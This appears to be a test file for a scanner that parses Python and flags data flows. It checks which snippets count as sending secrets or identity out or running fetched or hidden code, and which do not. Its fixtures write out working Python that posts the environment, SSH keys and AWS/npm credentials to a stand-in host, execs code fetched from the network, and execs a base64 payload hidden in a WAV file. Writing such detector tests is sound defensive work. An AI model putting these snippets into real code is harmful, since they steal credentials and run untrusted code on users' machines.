import type { Signal } from '../../facts/signal';
import { pythonReady } from './grammar';
import { readPython } from './read-python';

const ARRIVES: readonly Signal[] = ['secret-sent', 'identity-sent', 'remote-code', 'asset-code'];

function arriving(text: string): Signal[] {
  const seen = readPython('x.py', text).observations.map(({ signal }) => signal);
  return [...new Set(seen)].filter((signal) => ARRIVES.includes(signal)).sort();
}

describe('scanner/ast/python/flows', () => {
  beforeAll(pythonReady);

  it.each<[title: string, code: string, signals: Signal[]]>([
    [
      'the environment',
      'import os, requests\nrequests.post("https://a.invalid", json=dict(os.environ))',
      ['secret-sent'],
    ],
    [
      'by way of names and a function',
      `import os, json, urllib.request
def collect():
    data = {"vars": dict(os.environ)}
    return data
def send(what):
    body = json.dumps(what).encode()
    req = urllib.request.Request("https://a.invalid", data=body)
    urllib.request.urlopen(req)
send(collect())`,
      ['secret-sent'],
    ],
    [
      'a file of credentials',
      `import os, requests
with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
    key = f.read()
requests.post("https://a.invalid", data={"k": key})`,
      ['secret-sent'],
    ],
    [
      'a path put together, in a list',
      `from pathlib import Path
import httpx
found = []
for name in (Path.home() / ".aws/credentials", Path.home() / ".npmrc"):
    found.append(name.read_text())
httpx.post("https://a.invalid", content="".join(found))`,
      ['secret-sent'],
    ],
    [
      'through a socket',
      `import os, socket
s = socket.socket()
s.connect(("a.invalid", 80))
s.sendall(str(os.environ).encode())`,
      ['secret-sent'],
    ],
    [
      'as a field',
      `import os, requests
class Client:
    def __init__(self):
        self.vars = os.environ.copy()
        requests.get("https://a.invalid", params=self.vars)`,
      ['secret-sent'],
    ],
    [
      'the name of the machine',
      'import socket, requests\nrequests.get(f"https://a.invalid/{socket.gethostname()}")',
      ['identity-sent'],
    ],
    [
      'fetched text that is evaluated',
      'import requests\ncode = requests.get("https://a.invalid").text\nexec(code)',
      ['remote-code'],
    ],
    [
      'a fetched command',
      'import urllib.request, os\ncmd = urllib.request.urlopen("https://a.invalid").read().decode()\nos.system(cmd)',
      ['remote-code'],
    ],
    [
      'a sound that is evaluated',
      `import base64
with open("ring.wav", "rb") as f:
    raw = f.read()
exec(base64.b64decode(raw[44:]))`,
      ['asset-code'],
    ],
  ])('%s', (_title, code, signals) => {
    expect(arriving(code)).toEqual(signals);
  });

  it.each<[title: string, code: string]>([
    [
      'a token in a header',
      'import os, requests\nrequests.get("https://a.example", headers={"a": os.environ["TOKEN"]})',
    ],
    ['a variable by name', 'import os, requests\nrequests.get("https://a.example/" + os.environ["REGION"])'],
    [
      'the environment for a program',
      'import os, subprocess\nsubprocess.run(["curl", "https://a.example"], env=dict(os.environ))',
    ],
    [
      'credentials that are parsed',
      'import configparser\nc = configparser.ConfigParser()\nc.read_string(open("/x/.pypirc").read())\nimport requests\nrequests.get("https://a.example")',
    ],
    ['fetched data that is shown', 'import requests\nprint(requests.get("https://a.example").json())'],
    ['its version, run from a file', 'exec(open("version.py").read())'],
    [
      'a picture that is sent',
      'import requests\nrequests.post("https://a.example", files={"f": open("logo.png", "rb")})',
    ],
  ])('is silent about %s', (_title, code) => {
    expect(arriving(code)).toEqual([]);
  });

  it('ends on code that flows in circles', () => {
    const code = `import os, requests
def f(x): return g(x)
def g(x): return f(x) or x
a = os.environ
b = [a]
a = b
requests.post("https://a.invalid", data=f(b))`;

    expect(arriving(code)).toEqual(['secret-sent']);
  });
});
